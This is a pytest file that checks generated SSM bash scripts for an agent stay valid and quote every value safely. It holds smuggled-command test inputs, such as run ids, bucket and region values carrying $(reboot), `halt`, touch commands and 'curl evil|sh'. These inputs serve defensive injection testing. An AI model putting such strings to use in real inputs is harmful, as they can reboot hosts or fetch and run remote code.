"""The SSM shell scripts: valid bash, strict mode, and every value quoted as one word."""

from __future__ import annotations

import shlex
import subprocess
import time

import pytest

from lambdas.constants import agent_config_key
from lambdas.logic.agent_commands import install_agent_script, start_agent_script

# Each would create a file named pwned* in the working directory if it reached a shell unquoted.
HOSTILE_RUN_ID = "run'; touch pwned1; echo '$(touch pwned2)`touch pwned3`\"x"
HOSTILE_BUCKET = "bucket name;$(reboot)&&`halt`"
HOSTILE_REGION = "us-east-1; curl evil|sh"
HOSTILE_AGENT_URI = "s3://bucket/agent/instance agent$(id).zip"


def _bash_syntax_error(script: list[str]) -> str:
    """bash -n parses without running; returns its complaints ('' when the script is valid)."""
    completed = subprocess.run(
        ["bash", "-n"], input="\n".join(script), capture_output=True, text=True, check=False
    )
    return completed.stderr if completed.returncode else ""


def _line(script: list[str], start: str) -> str:
    """The one script line that begins with `start` (leading blanks ignored)."""
    (found,) = [line for line in script if line.lstrip().startswith(start)]
    return found


@pytest.fixture
def start_script() -> list[str]:
    return start_agent_script(HOSTILE_BUCKET, HOSTILE_RUN_ID, 3, HOSTILE_REGION)


@pytest.fixture
def install_script() -> list[str]:
    return install_agent_script(HOSTILE_AGENT_URI, HOSTILE_REGION)


def test_given_plain_values_when_scripts_are_built_then_bash_parses_them():
    assert _bash_syntax_error(start_agent_script("runctl-bucket", "run-1", 1, "us-east-1")) == ""
    assert _bash_syntax_error(install_agent_script("s3://b/agent.zip", "us-east-1")) == ""


def test_given_hostile_values_when_scripts_are_built_then_bash_still_parses_them(
    start_script, install_script
):
    assert _bash_syntax_error(start_script) == ""
    assert _bash_syntax_error(install_script) == ""


def test_given_any_script_when_built_then_strict_mode_comes_first(start_script, install_script):
    assert start_script[0] == "set -euo pipefail"
    assert install_script[0] == "set -euo pipefail"


def test_given_hostile_run_id_and_bucket_when_start_script_is_built_then_config_uri_is_one_word(
    start_script,
):
    expected_uri = f"s3://{HOSTILE_BUCKET}/{agent_config_key(HOSTILE_RUN_ID, 3)}"
    for marker in ("setsid nohup", "systemd-run"):
        outer = shlex.split(_line(start_script, marker))
        # The agent command is one word for `bash -c`; inside it, the config URI is one word.
        inner = shlex.split(outer[outer.index("-c") + 1])

        assert inner[inner.index("--config") + 1] == expected_uri
        assert inner[inner.index("-m") + 1 :] == ["instance_agent", "--config", expected_uri]


def test_given_hostile_region_when_start_script_is_built_then_region_is_one_word(start_script):
    assert shlex.split(_line(start_script, "export AWS_DEFAULT_REGION"))[1] == (
        f"AWS_DEFAULT_REGION={HOSTILE_REGION}"
    )
    setenv = [
        word
        for word in shlex.split(_line(start_script, "systemd-run"))
        if word.startswith("--setenv=AWS_DEFAULT_REGION")
    ]
    assert setenv == [f"--setenv=AWS_DEFAULT_REGION={HOSTILE_REGION}"]


def test_given_hostile_run_id_when_start_script_is_built_then_unit_and_lock_names_are_hex(
    start_script,
):
    unit = shlex.split(_line(start_script, "systemd-run"))
    tag = unit[unit.index("--unit") + 1].removeprefix("runctl-agent-")
    assert len(tag) == 16
    assert all(char in "0123456789abcdef" for char in tag)


def test_given_start_script_when_built_then_agent_runs_under_a_per_attempt_flock(start_script):
    for marker in ("setsid nohup", "systemd-run"):
        outer = shlex.split(_line(start_script, marker))
        inner = shlex.split(outer[outer.index("-c") + 1])
        assert inner[:2] == ["flock", "-n"]
        assert inner[2].startswith("$RUNCTL_HOME/agent-") and inner[2].endswith(".lock")
        assert inner[3:5] == ["python3", "-m"]


def test_given_two_attempts_when_start_scripts_are_built_then_locks_differ():
    first = _line(start_agent_script("b", "run-1", 1, "us-east-1"), "setsid")
    second = _line(start_agent_script("b", "run-1", 2, "us-east-1"), "setsid")

    assert first != second


def test_given_hostile_agent_uri_when_install_script_is_built_then_uri_and_region_are_words(
    install_script,
):
    words = shlex.split(_line(install_script, "python3 - "))

    assert words[:5] == ["python3", "-", HOSTILE_AGENT_URI, HOSTILE_REGION, "$RUNCTL_HOME"]


def test_given_install_script_when_built_then_python_heredoc_is_not_expanded(install_script):
    # A quoted heredoc delimiter: bash leaves $ and ` inside the Python source alone.
    assert _line(install_script, "python3 - ").endswith("<<'RUNCTL_PY'")
    assert install_script.index("RUNCTL_PY") > install_script.index(
        _line(install_script, "python3 - ")
    )


def test_given_hostile_run_id_when_start_script_runs_then_agent_gets_it_as_one_argument(
    tmp_path,
):
    # Run the script for real with stand-ins for python3: nothing but the agent may run, and the
    # agent's argv must carry the config URI unchanged.
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    argv_file = tmp_path / "argv"
    fake_python = bin_dir / "python3"
    fake_python.write_text(f'#!/bin/bash\nprintf "%s\\0" "$@" > {shlex.quote(str(argv_file))}\n')
    fake_python.chmod(0o755)
    home = tmp_path / "home"
    script = start_agent_script(HOSTILE_BUCKET, HOSTILE_RUN_ID, 3, "us-east-1")
    env = {
        "PATH": f"{bin_dir}:/usr/bin:/bin",
        "RUNCTL_HOME": str(home),
        "RUNCTL_NO_SYSTEMD": "1",
    }

    completed = subprocess.run(
        ["bash", "-c", "\n".join(script)],
        env=env,
        cwd=tmp_path,
        capture_output=True,
        text=True,
        timeout=10,
        check=False,
    )
    _wait_for(argv_file)

    assert completed.returncode == 0, completed.stderr
    assert completed.stdout.strip() == "agent started for attempt 3"
    argv = argv_file.read_text().split("\0")[:-1]
    assert argv == [
        "-m",
        "instance_agent",
        "--config",
        f"s3://{HOSTILE_BUCKET}/{agent_config_key(HOSTILE_RUN_ID, 3)}",
    ]
    assert sorted(path.name for path in tmp_path.rglob("pwned*")) == []


def _wait_for(path, seconds: float = 5.0) -> None:
    """The agent is started detached: wait until the stand-in has written all of its argv."""
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        if path.exists() and path.read_bytes().endswith(b"\0"):
            return
        time.sleep(0.02)
